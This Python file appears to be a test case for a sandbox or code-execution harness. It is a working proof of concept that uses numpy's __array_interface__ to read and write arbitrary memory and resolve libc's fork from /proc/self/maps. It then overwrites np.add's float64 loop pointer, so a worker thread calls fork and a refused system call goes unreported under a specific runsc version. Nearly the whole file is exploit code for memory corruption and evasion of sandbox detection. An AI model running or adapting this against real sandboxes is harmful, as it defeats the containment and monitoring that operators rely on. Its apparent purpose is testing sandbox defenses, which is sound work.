# family: rt11
# reaches: process
# layer: runtime
# static: denied
# Under Debian's runsc (20221219), whose SECCOMP_RET_KILL_PROCESS ends only the calling thread, a
# refused system call made by a thread that had let the interpreter lock go. numpy.asarray trusts
# an object's __array_interface__ (a writable view at any address, no audit event): the float64
# loop of np.add, in numpy's writable table of loops, becomes libc's fork, and a worker thread
# adds two large arrays, which numpy does without the lock. The kernel filter kills the worker in
# fork's clone; the main thread runs on and exits 0: no violation, no timeout (findings/41).
# Under runc the kernel kills the whole process; with no layer the program forks.
import os
import struct
import threading

import numpy as np


def libc_function(name):
    """The address of a libc function in this process, from /proc/self/maps and libc's symbols."""
    for line in open("/proc/self/maps"):
        f = line.split()
        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
            base, path = int(f[0].split("-")[0], 16), f[5]
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return base + value


class Window:
    def __init__(self, addr, n, typestr="<u8"):
        self.__array_interface__ = {"data": (addr, False), "shape": (n,), "typestr": typestr, "version": 3}


def word(addr):
    return int(np.asarray(Window(addr, 1))[0])


# PyUFuncObject: nin, nout, nargs at 16; functions at 32, ntypes at 48, types at 64.
uf = id(np.add)
nargs = int(np.asarray(Window(uf + 16, 3, "<i4"))[2])
functions, ntypes, types = word(uf + 32), int(np.asarray(Window(uf + 48, 1, "<i4"))[0]), word(uf + 64)
sig = np.asarray(Window(types, ntypes * nargs, "|u1")).reshape(ntypes, nargs)
loop = [k for k in range(ntypes) if list(sig[k]) == [12, 12, 12]][0]  # NPY_DOUBLE
a = np.ones(100000)
np.asarray(Window(functions + 8 * loop, 1))[0] = libc_function(b"fork")


def work():
    print("np.add ran fork in", os.getpid(), np.add(a, a)[:2], flush=True)


t = threading.Thread(target=work, daemon=True)
t.start()
t.join(3)
print("the program goes on and ends well", flush=True)
